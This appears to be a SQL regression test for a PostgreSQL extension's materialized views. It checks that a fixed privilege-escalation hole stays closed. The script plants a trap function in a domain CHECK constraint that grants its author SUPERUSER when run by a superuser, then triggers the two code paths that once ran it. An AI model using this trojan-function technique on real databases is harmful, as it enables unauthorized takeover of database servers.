-- A view's stored query is analyzed only as the view's owner: parse
-- analysis runs the owner's code (a literal of an array-of-domain type
-- checks the domain's CHECK, which may call any function), so analyzing it
-- as anyone else would run that code as them.  Two places did: a rename
-- the owner's analysis failed on fell back to the catalog's owner (a
-- superuser), and the guard judged a dropped column by analyzing readers'
-- queries as whoever ran the ALTER TABLE.  As a non-superuser attacker
-- with its schema first in search_path; a superuser does the second DDL.
SELECT current_user AS superuser \gset
SET client_min_messages = warning;
CREATE EXTENSION IF NOT EXISTS pipeline;
CREATE ROLE aao_attacker LOGIN;
DO $$ BEGIN EXECUTE format('GRANT CREATE ON DATABASE %I TO aao_attacker', current_database()); END $$;
RESET client_min_messages;
SET ROLE aao_attacker;
CREATE SCHEMA aao;
CREATE TABLE aao.armed (on_ boolean);
INSERT INTO aao.armed VALUES (false);
-- run as the owner it fails (so that a fallback would take over); run as a
-- superuser it makes the attacker one
CREATE FUNCTION aao.chk(int) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  IF (SELECT on_ FROM aao.armed) THEN
    IF NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
      RAISE EXCEPTION 'trap: not as % yet', current_user;
    END IF;
    EXECUTE 'ALTER ROLE aao_attacker SUPERUSER';
  END IF;
  RETURN true;
END $f$;
CREATE DOMAIN aao.d AS int CHECK (aao.chk(VALUE));
CREATE TABLE aao.src (id bigserial PRIMARY KEY, v int, spare int);
SELECT pipeline.create_matview('aao', 's', $q$SELECT id, v, '{1}'::aao.d[] AS x FROM aao.src$q$, '1 hour',
                               'incremental', incremental_key => 'id');
UPDATE aao.armed SET on_ = true;
RESET ROLE;

-- the owner renames a column of its own table the view reads, in a fresh
-- session (a function already run in a session under another path is
-- refused there)
\c - aao_attacker
SET search_path = aao, public, pg_catalog;
ALTER TABLE aao.src RENAME COLUMN v TO w;
\c - :superuser
SELECT rolsuper AS attacker_is_superuser FROM pg_roles WHERE rolname = 'aao_attacker';

-- a superuser drops a column of the attacker's table that the view does
-- not read: the guard asks the view's query, as its owner
ALTER TABLE aao.src DROP COLUMN spare;
SELECT rolsuper AS attacker_is_superuser FROM pg_roles WHERE rolname = 'aao_attacker';

UPDATE aao.armed SET on_ = false;
SELECT pipeline.drop_matview('aao.mv_s');
DROP SCHEMA aao CASCADE;
DO $$ BEGIN EXECUTE format('REVOKE CREATE ON DATABASE %I FROM aao_attacker', current_database()); END $$;
DROP ROLE aao_attacker;
